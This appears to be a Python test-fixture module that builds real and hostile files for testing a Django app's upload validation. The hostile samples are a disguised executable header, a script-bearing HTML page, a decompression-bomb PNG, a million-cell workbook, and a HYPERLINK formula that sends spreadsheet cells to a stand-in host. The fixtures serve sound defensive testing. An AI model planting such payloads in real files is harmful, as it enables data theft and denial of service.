"""Real files of each kind, built in memory with their real structure.

A PDF header and trailer, an Office Open XML package, JPEG and PNG images, a Windows
program, hostile workbooks: what the upload checks of every app would see from an
officer's computer or a phone.
"""

import functools
import io
import mimetypes
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from PIL import Image

# ---------------------------------------------------------------------------------------
# Documents


def pdf_bytes(text: str = "Chi thi ve kinh phi cong doan") -> bytes:
    """A small but well-formed one-page PDF."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return out.getvalue()


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)


_RELATIONSHIPS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="word/document.xml" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument"/></Relationships>'
)


def docx_bytes(text: str = "Hướng dẫn thu kinh phí công đoàn") -> bytes:
    """A minimal Word document (Office Open XML) holding one paragraph."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", _CONTENT_TYPES)
        package.writestr("_rels/.rels", _RELATIONSHIPS)
        package.writestr(
            "word/document.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>",
        )
    return out.getvalue()


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("phu-luc.txt", "Phụ lục kèm theo văn bản")
    return out.getvalue()


def png_scan_bytes(size=(200, 280)) -> bytes:
    out = io.BytesIO()
    Image.new("L", size, 240).save(out, "PNG")
    return out.getvalue()


def executable_bytes() -> bytes:
    """The start of a Windows program: what a virus renamed to .pdf looks like."""
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
        + b"\x00" * 200
        + b"PE\x00\x00"
    )


def html_bytes() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(1)</script>Quyet dinh</body></html>"


def upload(name: str, content: bytes, content_type: str | None = None) -> SimpleUploadedFile:
    """A file as a browser sends it: typed by its name unless told otherwise."""
    content_type = content_type or mimetypes.guess_type(name)[0] or "application/octet-stream"
    return SimpleUploadedFile(name, content, content_type=content_type)


# ---------------------------------------------------------------------------------------
# Images


def jpeg_bytes(size=(1600, 900), colour=(11, 61, 145)) -> bytes:
    """A real JPEG, like a phone photo but small on disk (one colour compresses well)."""
    buffer = io.BytesIO()
    Image.new("RGB", size, colour).save(buffer, "JPEG", quality=80)
    return buffer.getvalue()


def png_bytes(size=(64, 64), colour=(200, 30, 30, 255)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGBA", size, colour).save(buffer, "PNG")
    return buffer.getvalue()


def jpeg_upload(name: str = "IMG_20260115_083012.jpg", **kwargs) -> SimpleUploadedFile:
    return upload(name, jpeg_bytes(**kwargs))


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


@functools.cache
def bomb_png_bytes(side: int = 20_000) -> bytes:
    """A real, complete PNG of side × side black pixels: ~50 KB on disk, 400 Mpx decoded.

    Written row by row, so building it never holds the decoded image in memory.
    """
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1-bit greyscale
    row = b"\x00" + bytes((side + 7) // 8)  # filter byte + packed pixels
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )


# ---------------------------------------------------------------------------------------
# Hostile workbooks


ATTACK = '=HYPERLINK("https://example.com/?d="&D2&E2,"Xem hồ sơ")'


SHEET_OPEN = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b"<sheetData>"
)


SHEET_CLOSE = b"</sheetData></worksheet>"


def workbook_with_sheet(write_sheet) -> bytes:
    """A real workbook whose first sheet's XML is written by `write_sheet(stream)`."""
    book = Workbook()
    book.active.append(["Họ và tên"])
    buffer = io.BytesIO()
    book.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as stream:
                    stream.write(SHEET_OPEN)
                    write_sheet(stream)
                    stream.write(SHEET_CLOSE)
            else:
                target.writestr(info, source.read(info))
    return out.getvalue()


def million_cells_in_one_row(stream):
    stream.write(b'<row r="1">')
    cell = b"<c><v>1</v></c>"
    for _chunk in range(100):
        stream.write(cell * 10_000)
    stream.write(b"</row>")
